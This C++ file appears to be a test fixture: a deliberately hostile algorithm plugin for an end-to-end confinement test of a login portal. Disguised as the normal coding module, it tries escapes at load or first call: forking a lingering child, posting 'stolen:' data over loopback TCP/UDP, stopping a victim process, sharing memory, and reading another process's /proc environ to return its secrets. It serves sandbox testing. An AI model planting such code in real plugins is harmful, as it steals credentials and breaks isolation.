// A hostile algorithm module for the end-to-end test of the module's confinement. It codes
// exactly like the development module (tools/algo-module), so the portal accepts what it codes
// and a login goes on through it, and it tries one way out, in its constructor ("load") or in
// its first Code call ("code"):
//   fork     starts a child that writes the marker file, posts to the portal and lives on
//   connect  posts "stolen:..." to the portal's /query over TCP (and sends it as a UDP datagram)
//   marker   creates the marker file
//   signal   stops the victim process (SIGSTOP)
//   shared   maps a shared page, into which it copies every text it codes
//   environ  reads the victim's environment, and answers what it got instead of a coded text
// The test writes "ACTION STAGE PORT VICTIM-PID MARKER-PATH" into the hostile slot of a copy of
// this module (found by its marker, like the key slot) before packing it.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>

// The development module's coding, exported under other names and wrapped below.
#define Code DevelopmentCode
#define FreeResult DevelopmentFreeResult
#define Prepare DevelopmentPrepare
#include "AlgoModule.cpp"
#undef Code
#undef FreeResult
#undef Prepare

struct HostileSlot {
    char marker[24];  // "orvane.hostile.slot.v1"
    char text[232];   // NUL-terminated
};

extern "C" {
__attribute__((visibility("default"), used))
HostileSlot kHostileSlot = {"orvane.hostile.slot.v1", ""};
}

namespace {

struct Plan {
    std::string action, stage, marker;
    int port = 0;
    pid_t victim = 0;
};

Plan g_plan;
char* g_shared = nullptr;
std::string g_stolen;

// The next blank-separated word of text from at on.
std::string word(const std::string& text, size_t& at) {
    const size_t start = text.find_first_not_of(' ', at);
    if (start == std::string::npos)
        return "";
    at = text.find(' ', start);
    return text.substr(start, at == std::string::npos ? std::string::npos : at - start);
}

// No streams: a sanitizer's type checks do not follow libstdc++'s objects into a loaded module.
Plan readPlan() {
    const volatile HostileSlot* slot = &kHostileSlot;
    std::string text;
    for (size_t i = 0; i < sizeof(slot->text) && slot->text[i] != '\0'; ++i)
        text.push_back(slot->text[i]);
    Plan p;
    size_t at = 0;
    p.action = word(text, at);
    p.stage = word(text, at);
    p.port = std::atoi(word(text, at).c_str());
    p.victim = static_cast<pid_t>(std::atoi(word(text, at).c_str()));
    p.marker = word(text, at);
    return p;
}

void writeMarker(const char* what) {
    const int fd = open(g_plan.marker.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
    if (fd < 0)
        return;
    const ssize_t written = write(fd, what, strlen(what));
    (void)written;
    close(fd);
}

void postStolen(const std::string& what) {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<uint16_t>(g_plan.port));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    const std::string body = "stolen:" + what;
    const int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s >= 0 && connect(s, reinterpret_cast<sockaddr*>(&to), sizeof(to)) == 0) {
        const std::string req =
            "POST /query HTTP/1.0\r\nContent-Type: text/plain\r\n"
            "Content-Length: " +
            std::to_string(body.size()) + "\r\n\r\n" + body;
        char answer[64];
        if (send(s, req.data(), req.size(), MSG_NOSIGNAL) > 0)
            (void)recv(s, answer, sizeof(answer), 0);
    }
    if (s >= 0)
        close(s);
    const int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (u >= 0) {
        sendto(u, body.data(), body.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to));
        close(u);
    }
}

void readVictimEnvironment() {
    const std::string path = "/proc/" + std::to_string(g_plan.victim) + "/environ";
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    char buf[4096];
    const ssize_t n = read(fd, buf, sizeof(buf));
    close(fd);
    for (ssize_t i = 0; i < n; ++i)
        g_stolen.push_back(buf[i] == '\0' ? ' ' : buf[i]);
}

void tryTheWayOut() {
    const std::string& a = g_plan.action;
    if (a == "fork") {
        if (fork() == 0) {
            writeMarker("forked");
            postStolen("forked");
            sleep(60);
            _exit(0);
        }
    } else if (a == "connect") {
        postStolen("connected");
    } else if (a == "marker") {
        writeMarker("written");
    } else if (a == "signal") {
        kill(g_plan.victim, SIGSTOP);
    } else if (a == "shared") {
        void* page = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        g_shared = page == MAP_FAILED ? nullptr : static_cast<char*>(page);
    } else if (a == "environ") {
        readVictimEnvironment();
    }
}

// Runs while the module is being loaded, after the objects above (one file: definition order).
struct AtLoad {
    AtLoad() {
        g_plan = readPlan();
        if (g_plan.stage == "load")
            tryTheWayOut();
    }
} g_atLoad;

}  // namespace

extern "C" __attribute__((visibility("default"))) char* Code(const char* text) {
    static bool tried = false;
    if (g_plan.stage == "code" && !tried) {
        tried = true;
        tryTheWayOut();
    }
    if (g_shared != nullptr && text != nullptr)
        snprintf(g_shared, 4096, "%s", text);
    if (g_stolen.empty())
        return DevelopmentCode(text);
    // What it got goes out as it is, as the portal request's body.
    const std::string out = "stolen:" + g_stolen;
    char* raw = new char[out.size() + 1];
    memcpy(raw, out.c_str(), out.size() + 1);
    return raw;
}

extern "C" __attribute__((visibility("default"))) void FreeResult(char* result) {
    DevelopmentFreeResult(result);
}

extern "C" __attribute__((visibility("default"))) int Prepare(const char* keyid, const char* text,
                                                              PrepareCallback cb, void* info) {
    return DevelopmentPrepare(keyid, text, cb, info);
}
